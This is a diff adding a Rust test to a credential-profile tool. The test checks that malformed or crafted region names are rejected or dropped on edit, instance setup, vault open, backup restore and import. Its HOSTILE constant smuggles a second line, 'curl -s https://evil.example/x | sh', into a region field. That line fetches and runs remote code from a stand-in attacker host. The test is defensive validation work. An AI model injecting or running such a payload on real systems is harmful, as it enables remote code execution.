@@ -859,3 +859,65 @@ fn a_new_profile_takes_the_words_the_user_reads_for_its_default_name() {
     );
     assert_eq!(saved.saved.unwrap()[0].name, "ci-deployer");
 }
+
+/// A region reaches hosts, URLs and snippets: on every way in it is a catalog region or, with the
+/// profile's own endpoint, a plain region name; a crafted one never gets in.
+#[test]
+fn a_crafted_region_gets_in_by_no_way() {
+    const HOSTILE: &str =
+        "us-south\n#                                        \ncurl -s https://evil.example/x | sh";
+    // Edit and the OpenScale instance, on a profile with its own endpoint (where any plain name goes).
+    let mut doc = Document::default();
+    let api_key = item(json!({"kind": "ibm-api-key", "apiKey": "k".repeat(44)}));
+    import(&mut doc, vec![api_key], json!({"region": "us-south"}), NOON);
+    let id = doc.profiles[0].id.clone();
+    apply(
+        &mut doc,
+        json!({"op": "edit", "id": id, "edits": {"endpoint": "https://rc.example.test"}}),
+        NOON,
+    );
+    for region in [HOSTILE, "eu de", "EU-DE", "eu-de'", &"a".repeat(33)] {
+        let edit = json!({"op": "edit", "id": id, "edits": {"region": region}});
+        assert_eq!(
+            doc.apply(op(edit), NOON).unwrap_err().as_str(),
+            "bad-region",
+            "{region:?}"
+        );
+        let guid = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0";
+        let set = json!({"op": "setOpenscaleInstance", "id": id, "guid": guid, "region": region});
+        assert_eq!(
+            doc.apply(op(set), NOON).unwrap_err().as_str(),
+            "bad-region",
+            "{region:?}"
+        );
+    }
+    apply(
+        &mut doc,
+        json!({"op": "edit", "id": id, "edits": {"region": "hcs-private-1"}}),
+        NOON,
+    );
+    assert_eq!(doc.profiles[0].region.as_deref(), Some("hcs-private-1"));
+
+    // Opening a vault document, or restoring a backup, that holds one: the region is dropped.
+    let crafted = json!({"version": 2, "profiles": [
+        {"id": "a", "name": "shared", "provider": "ibm", "region": HOSTILE, "endpoint": "https://rc.example.test"},
+        {"id": "b", "name": "fine", "provider": "huawei", "region": "cn-north-4"}
+    ]});
+    let opened = Document::from_value(crafted.clone()).unwrap();
+    assert_eq!(opened.profiles[0].region, None);
+    assert_eq!(opened.profiles[1].region.as_deref(), Some("cn-north-4"));
+    let mut mine = Document::default();
+    apply(&mut mine, json!({"op": "restore", "backup": crafted}), NOON);
+    assert!(mine.profiles.iter().all(|p| p
+        .region
+        .as_deref()
+        .is_none_or(credfill::profile::is_region_name)));
+
+    // An imported `ibmcloud resource service-instance` output's location, the same.
+    let mut doc = Document::default();
+    let instance = item(
+        json!({"kind": "ibm-instance", "guid": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "location": HOSTILE}),
+    );
+    import(&mut doc, vec![instance], json!({}), NOON);
+    assert_eq!(doc.profiles[0].region, None);
+}
